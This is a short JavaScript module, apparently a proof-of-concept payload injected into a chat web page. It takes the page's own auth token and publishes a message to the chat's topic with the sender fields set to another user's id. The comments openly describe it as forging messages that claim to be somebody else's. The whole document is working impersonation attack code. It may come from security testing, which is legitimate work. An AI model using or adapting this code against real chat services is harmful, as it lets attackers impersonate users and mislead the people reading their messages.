// Runs in the chat's page, with its own right to a token. It is sent there as its text.

/** Publishes with the user's token a message that claims to be somebody else's. */
exports.publishForged = async ({ text, userId }) => {
  const answer = await fetch('token', { method: 'POST', body: '{"language":"en"}' });
  const { authToken, endpoint, cacheName, topicName } = await answer.json();
  const { CredentialProvider, TopicClient, TopicConfigurations } = await import('/web-sdk.js');
  const all = { cacheEndpoint: endpoint, controlEndpoint: endpoint, tokenEndpoint: endpoint };
  const topics = new TopicClient({
    credentialProvider: CredentialProvider.fromDisposableToken({ apiKey: authToken, endpointOverrides: all }),
    configuration: TopicConfigurations.Browser.latest(),
  });
  const forged = { text, userId, userID: userId, token_id: userId };
  const published = await topics.publish(cacheName, topicName, JSON.stringify(forged));
  if (published.type !== 'Success') throw new Error(published.toString());
};
